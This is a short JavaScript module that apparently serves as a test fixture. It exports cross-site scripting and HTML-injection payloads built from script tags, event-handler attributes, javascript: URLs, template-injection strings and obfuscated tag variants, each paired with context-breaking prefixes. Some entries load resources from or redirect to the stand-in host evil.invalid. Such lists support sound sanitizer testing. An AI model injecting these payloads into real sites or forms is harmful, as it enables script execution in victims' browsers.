// Texts that would run as a script, ask somewhere else for something, or break out of where they stand, on a page that is not careful.
const run = 'globalThis.ran=(globalThis.ran||0)+1;alert(1)';
const elements = [
    `<script>${run}</script>`, `<img src=x onerror="${run}">`, `<img src=x onerror='${run}'>`, `<svg onload="${run}">`, `<svg><script>${run}</script></svg>`, `<body onload="${run}">`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<iframe src="javascript:${run}"></iframe>`, `<a href="javascript:${run}">x</a>`, `<details open ontoggle="${run}">x</details>`,
    `<input autofocus onfocus="${run}">`, `<video><source onerror="${run}"></video>`, `<math><mtext></mtext><mglyph><style><img src=x onerror="${run}"></style></math>`,
    `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<form action="javascript:${run}"><button autofocus>x</button></form>`,
    `<style>@import 'https://evil.invalid/x.css';</style>`, `<link rel=stylesheet href="https://evil.invalid/x.css">`, `<img src="https://evil.invalid/x.png">`, `<meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
    `<base href="https://evil.invalid/">`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`, `<marquee onstart="${run}">x</marquee>`,
];
const breaks = ['', '">', "'>", '"><', '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '" autofocus onfocus="', '</td></tr></table>'];
const attributes = [`" onmouseover="${run}" x="`, `" autofocus onfocus="${run}" x="`, `' onfocus='${run}' autofocus x='`, `javascript:${run}`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, '&lt;script&gt;', '&#60;script&#62;',
                    '\u202e<gpj.exe', '<\u200bscript>', '＜script＞', '%3Cscript%3E', '<scr<script>ipt>', '<ScRiPt>', '<script', '<!--', '{name}', '{body}', '{token}'];

export const payloads = [...breaks.flatMap((before) => elements.map((element) => before + element)), ...attributes];
